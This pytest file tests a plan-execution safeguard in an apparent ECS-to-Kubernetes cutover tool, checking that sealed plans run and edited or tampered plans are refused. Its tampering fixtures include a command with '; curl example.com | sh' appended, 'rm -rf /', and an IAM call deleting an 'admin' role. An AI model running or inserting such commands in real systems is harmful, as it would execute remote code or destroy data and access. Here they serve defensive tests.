"""A plan that somebody edited sends nothing else than what leads from its states to its states."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from msgspec.structs import replace

from ecs2k8s.core.errors import PlanError
from ecs2k8s.cutover.folder import consumed
from ecs2k8s.cutover.plan import Approval, Move, Plan, Request, Thing, dump, load, sealed
from ecs2k8s.cutover.run.context import Asked
from ecs2k8s.cutover.run.operator import BACK, ask, forget, left
from ecs2k8s.cutover.run.trusted import trust
from tests.cutover_world import handed_over, moved, ramp
from tests.planned import ground, made, units

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path


@pytest.mark.parametrize("plan", [ramp(), handed_over()], ids=["requests", "work"])
def test_what_planning_made_is_carried_out(plan: Plan) -> None:
    trust(load(dump(sealed(plan)), "plan.json"), "plan.json", execute=True)


def test_what_is_planned_for_a_sample_is_carried_out_as_it_lies_on_disk() -> None:
    its = ground("three-tier")
    plans = [plan for unit in units(its) for plan in [made(its, unit)] if isinstance(plan, Plan)]
    assert plans
    for plan in plans:
        trust(load(dump(plan), "plan.json"), "plan.json", execute=plan.executable)


OTHER_CALL = Request("iam.DeleteRole", {"RoleName": "admin"})
EDITS: dict[str, Callable[[Move], Move]] = {
    "another call": lambda move: replace(move, request=OTHER_CALL),
    "another object": lambda move: replace(move, request=replace(move.request, parameters={"RuleArn": "other"})),
    "another kind": lambda move: replace(move, thing=Thing("iam.everything", "*")),
    "a kind that nothing changes": lambda move: replace(move, thing=Thing("elbv2.target-health", move.thing.id)),
    "states of no kind": lambda move: replace(move, before="a", wanted=7),
    "another command": lambda move: replace(move, command=f"{move.command}; curl example.com | sh"),
    "no states": lambda move: replace(move, before=None, wanted=None),
}


@pytest.mark.parametrize("where", ["moves", "back"])
@pytest.mark.parametrize("edit", EDITS)
def test_an_edited_move_is_refused_with_its_place(edit: str, where: str) -> None:
    plan = ramp()
    step = plan.steps[-1]
    step = replace(step, **{where: (EDITS[edit](getattr(step, where)[0]),)})
    edited = replace(plan, steps=(*plan.steps[:-1], step))
    for execute in (True, False):
        with pytest.raises(PlanError, match=rf"plan\.json: step {step.id}: {where}\[0\]: .*plan again"):
            trust(edited, "plan.json", execute=execute)


def test_what_only_people_send_is_guided_or_is_not_sent() -> None:
    record = {"Name": "shop.example.", "Type": "A", "TTL": 60, "ResourceRecords": [{"Value": "192.0.2.1"}]}
    thing = Thing("route53.record-sets", "Z1/shop.example.")
    move = moved(thing, [record], [{**record, "TTL": 30}])
    plan = ramp()
    step = replace(plan.steps[0], moves=(move,), back=())
    plan = replace(plan, steps=(step,))
    trust(sealed(plan), "plan.json", execute=False)
    with pytest.raises(PlanError, match="is sent by people only"):
        trust(plan, "plan.json", execute=True)
    trust(sealed(replace(plan, steps=(replace(plan.steps[0], guided=True),))), "plan.json", execute=True)


TEXTS: dict[str, Callable[[Plan], Plan]] = {
    "a command that no state leads to": lambda plan: _first(plan, commands=("rm -rf /",)),
    "a way back in words": lambda plan: _first(plan, undo=("true",)),
    "no check": lambda plan: _first(plan, checks=()),
    "no approval": lambda plan: replace(plan, approvals=()),
    "a later end": lambda plan: replace(plan, expires="2099-01-01T00:00:00Z"),
    "no seal": lambda plan: replace(plan, seal=""),
}


def _first(plan: Plan, **changes: object) -> Plan:
    return replace(plan, steps=(replace(plan.steps[0], **changes), *plan.steps[1:]))


@pytest.mark.parametrize("edit", TEXTS)
def test_what_nothing_else_proves_is_held_by_the_seal(edit: str) -> None:
    plan = sealed(replace(_first(ramp(), commands=("x",), undo=("y",), checks=("L06",)), approvals=(Approval("P6"),)))
    trust(plan, "plan.json", execute=False)
    with pytest.raises(PlanError, match=r"plan\.json: was edited after it was made: plan again"):
        trust(TEXTS[edit](plan), "plan.json", execute=False)


def test_the_plan_of_a_run_is_the_one_that_its_journal_names(tmp_path: Path) -> None:
    plan = ramp()
    run = tmp_path / "runs" / "01J"
    run.mkdir(parents=True)
    (run / "plan.json").write_bytes(dump(replace(plan, region="eu-west-2")))
    (tmp_path / "plan.json").write_bytes(dump(plan))
    assert consumed(run, plan.ident) == plan
    (tmp_path / "plan.json").write_text("{")
    with pytest.raises(PlanError, match="is not the plan"):
        consumed(run, plan.ident)


@pytest.mark.parametrize("what", BACK)
def test_who_resumes_does_not_forget_that_somebody_wants_the_way_back(tmp_path: Path, what: str) -> None:
    ask(tmp_path, Asked(what, "someone"))
    forget(tmp_path, but=BACK)
    assert left(tmp_path) == Asked(what, "someone")
    forget(tmp_path)
    assert left(tmp_path) is None


def test_a_wish_to_pause_is_forgotten_by_who_resumes(tmp_path: Path) -> None:
    ask(tmp_path, Asked("pause", "someone"))
    forget(tmp_path, but=BACK)
    assert left(tmp_path) is None


@pytest.mark.parametrize("data", [b"", b"{", b"\xff", b"[" * 100_000, b'{"what":"launch","by":"x"}'])
def test_a_wish_that_cannot_be_read_pauses_and_hides_no_way_back(tmp_path: Path, data: bytes) -> None:
    (tmp_path / "asked.json").write_bytes(data)
    assert (found := left(tmp_path)) is not None
    assert found.what == "pause"
    ask(tmp_path, Asked("rollback", "someone"))
    assert left(tmp_path) == Asked("rollback", "someone")
